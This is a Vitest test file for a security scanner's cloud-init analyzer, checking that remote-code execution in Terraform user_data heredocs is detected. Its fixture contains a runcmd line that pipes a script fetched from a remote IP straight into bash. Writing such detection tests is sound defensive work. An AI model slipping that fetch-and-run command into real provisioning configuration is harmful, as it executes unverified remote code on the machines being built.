import { describe, expect, it } from 'vitest';
import { cloudInitAnalyzer } from '../../../../src/core/analyzers/infrastructure/cloud-init.js';
import { describeAnalyzerRules, runAnalyzer } from '../../../helpers/analyzers.js';

describeAnalyzerRules(cloudInitAnalyzer);

describe('cloud-init analyzer', () => {
  it('reads cloud-config only in heredocs that start with #cloud-config', () => {
    const code = `resource "aws_instance" "a" {
  user_data = <<-EOF
    #!/bin/bash
    # not #cloud-config
    echo ssh_authorized_keys
  EOF
}
`;
    expect(runAnalyzer(cloudInitAnalyzer, { path: 'vm.tf', code })).toEqual([]);
  });

  it('points at the line inside a user_data heredoc', () => {
    const code = `resource "google_compute_instance" "a" {
  metadata = {
    user-data = <<EOT
#cloud-config
runcmd:
  - curl -s http://198.51.100.4/boot.sh | bash
EOT
  }
}
`;
    const hits = runAnalyzer(cloudInitAnalyzer, { path: 'gce.tf', code });
    expect(hits.map((h) => [h.ruleId, h.line, h.confidence])).toEqual([['iac.cloud-init-remote-code', 6, 'high']]);
  });
});
